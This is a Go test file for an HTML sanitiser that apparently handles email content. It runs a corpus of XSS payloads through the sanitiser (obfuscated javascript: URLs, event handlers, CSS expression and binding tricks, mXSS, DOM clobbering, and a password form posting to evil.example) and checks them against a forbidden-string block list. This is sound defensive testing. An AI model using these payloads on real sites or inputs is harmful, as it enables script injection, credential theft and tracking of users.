package safehtml_test

import (
	"strings"
	"testing"

	"github.com/ucsp/integration/connector/safehtml"
)

// ordinary is appended to every hostile case: the sanitiser must remove
// the attack and keep this.
const ordinary = `<p>Hello <b>Customer</b>,</p>` +
	`<p><a href="https://example.com/order/42">your order</a></p>` +
	`<table border="1"><tr><td>Item</td><td>Qty</td></tr></table>` +
	`<img src="cid:logo@example.com" alt="logo">`

// survivors are what ordinary must become.
var survivors = []string{
	`Hello <b>Customer</b>,`,
	`<a href="https://example.com/order/42" rel="noopener noreferrer nofollow" target="_blank">your order</a>`,
	`<td>Item</td><td>Qty</td>`,
	`<img src="/att/logo@example.com" alt="logo">`,
}

// forbidden must appear in no output, whatever the case (lower-cased).
var forbidden = []string{
	"<script", "alert", "msgbox", "javascript", "vbscript", "onerror", "onload", "onclick",
	"onmouseover", "expression", "url(", "<form", "<input", "<button", "<select", "<textarea",
	"<iframe", "<object", "<embed", "<meta", "refresh", "<base", "<link", "<svg", "<math",
	"<style", "data:text", "evil", "tracker",
}

var hostile = []struct {
	name, html string
	gone       []string // further strings that must not appear
	inert      string   // escaped text the case may leave behind
}{
	{"script", `<script>alert(1)</script>`, nil, ""},
	{"script upper src", `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`, nil, ""},
	{"script nested name", `<scr<script>ipt>alert(1)</script>`, nil, "ipt&gt;alert(1)"},
	{"script unclosed", `<script>alert(1)`, nil, ""},
	{"img onerror", `<img src=x onerror=alert(1)>`, nil, ""},
	{"img onerror quoted", `<IMG SRC="https://t.example/x.png" OnError="alert(1)">`, nil, ""},
	{"body onload", `<body onload="alert(1)"><p>b</p></body>`, nil, ""},
	{"div onmouseover", `<div onmouseover="alert(1)">hover</div>`, nil, ""},
	{"svg onload", `<svg onload=alert(1)></svg>`, nil, ""},
	{"svg script", `<svg><script>alert(1)</script></svg>`, nil, ""},
	{"svg animate href", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`, nil, ""},
	{"math xlink", `<math><a xlink:href="javascript:alert(1)">m</a></math>`, nil, ""},
	{"a javascript", `<a href="javascript:alert(1)">click</a>`, nil, ""},
	{"a javascript mixed case", `<a href="JaVaScRiPt:alert(1)">click</a>`, nil, ""},
	{"a javascript decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`, nil, ""},
	{"a javascript hex entities no semicolon", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>`, nil, ""},
	{"a javascript named colon", `<a href="javascript&colon;alert(1)">click</a>`, nil, ""},
	{"a javascript tab", "<a href=\"java\tscript:alert(1)\">click</a>", nil, ""},
	{"a javascript newline entity", `<a href="java&#x0A;script:alert(1)">click</a>`, nil, ""},
	{"a javascript leading space", `<a href="  javascript:alert(1)">click</a>`, nil, ""},
	{"a javascript control char", "<a href=\"\x01javascript:alert(1)\">click</a>", nil, ""},
	{"a vbscript", `<a href="vbscript:msgbox(1)">click</a>`, nil, ""},
	{"a vbscript upper", `<a href="VBSCRIPT:MsgBox(1)">click</a>`, nil, ""},
	{"a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`, []string{"data:"}, ""},
	{"a data image", `<a href="data:image/png;base64,iVBORw0KGgo=">click</a>`, []string{"data:"}, ""},
	{"img javascript", `<img src="javascript:alert(1)">`, nil, ""},
	{"img data svg", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, []string{"data:"}, ""},
	{"img srcset tracker", `<img srcset="https://tracker.example/a.gif 1x">`, []string{"srcset"}, ""},
	{"css expression", `<div style="width: expression(alert(1))">d</div>`, nil, ""},
	{"css expression escaped", `<div style="width: e\xpression(alert(1))">d</div>`, []string{"pression"}, ""},
	{"css url javascript", `<div style="background-image: url(javascript:alert(1))">d</div>`, nil, ""},
	{"css url remote", `<p style="background: url('https://tracker.example/px')">d</p>`, nil, ""},
	{"css moz binding", `<p style="-moz-binding: url(https://evil.example/x.xml#x)">d</p>`, []string{"binding"}, ""},
	{"css behavior", `<p style="behavior: url(evil.htc)">d</p>`, []string{"behavior"}, ""},
	{"css position overlay", `<div style="position: fixed; top: 0; z-index: 9999">d</div>`, []string{"position", "z-index"}, ""},
	{"style tag", `<style>body{background:url(https://tracker.example/bg)}</style>`, []string{"background"}, ""},
	{"style tag import", `<style>@import "https://evil.example/x.css";</style>`, []string{"@import"}, ""},
	{"form", `<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button>Log in</button><select><option>a</option></select><textarea>t</textarea></form>`, []string{"action=", "password"}, ""},
	{"formaction", `<button formaction="javascript:alert(1)">b</button>`, []string{"formaction"}, ""},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, nil, ""},
	{"base", `<base href="https://evil.example/">`, nil, ""},
	{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`, nil, ""},
	{"iframe", `<iframe src="https://evil.example/"></iframe>`, nil, ""},
	{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, []string{"srcdoc"}, ""},
	{"object embed", `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="X"></applet>`, []string{"applet"}, ""},
	{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, nil, ""},
	{"comment", `<!--<img src=x onerror=alert(1)>-->`, nil, ""},
	{"conditional comment", `<!--[if IE]><script>alert(1)</script><![endif]-->`, nil, ""},
	{"table background", `<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>`, []string{"background"}, ""},
	{"id clobbering", `<a id="location" name="cookie" href="https://example.com/">c</a><div id="config">x</div>`, []string{"id=", "name="}, ""},
	{"target opener", `<a href="https://example.com/" target="_self" rel="opener">o</a>`, []string{"_self", `"opener"`}, ""},
	{"whole document", `<!DOCTYPE html><html><head><title>evil title</title><meta charset="utf-8"></head><body>b</body></html>`, []string{"<html", "<head", "<body", "<title", "doctype"}, ""},
}

func cidRoute(id string) (string, bool) { return "/att/" + id, true }

func TestHostileCorpus(t *testing.T) {
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			res := safehtml.Sanitize(ordinary+c.html+ordinary, safehtml.Options{CID: cidRoute})
			lower := strings.ToLower(res.HTML)
			if c.inert != "" {
				lower = strings.Replace(lower, c.inert, "", 1)
			}
			for _, f := range append(append([]string{}, forbidden...), c.gone...) {
				if strings.Contains(lower, strings.ToLower(f)) {
					t.Errorf("output contains %q:\n%s", f, res.HTML)
				}
			}
			for _, s := range survivors {
				if !strings.Contains(res.HTML, s) {
					t.Errorf("output lost %q:\n%s", s, res.HTML)
				}
			}
		})
	}
}
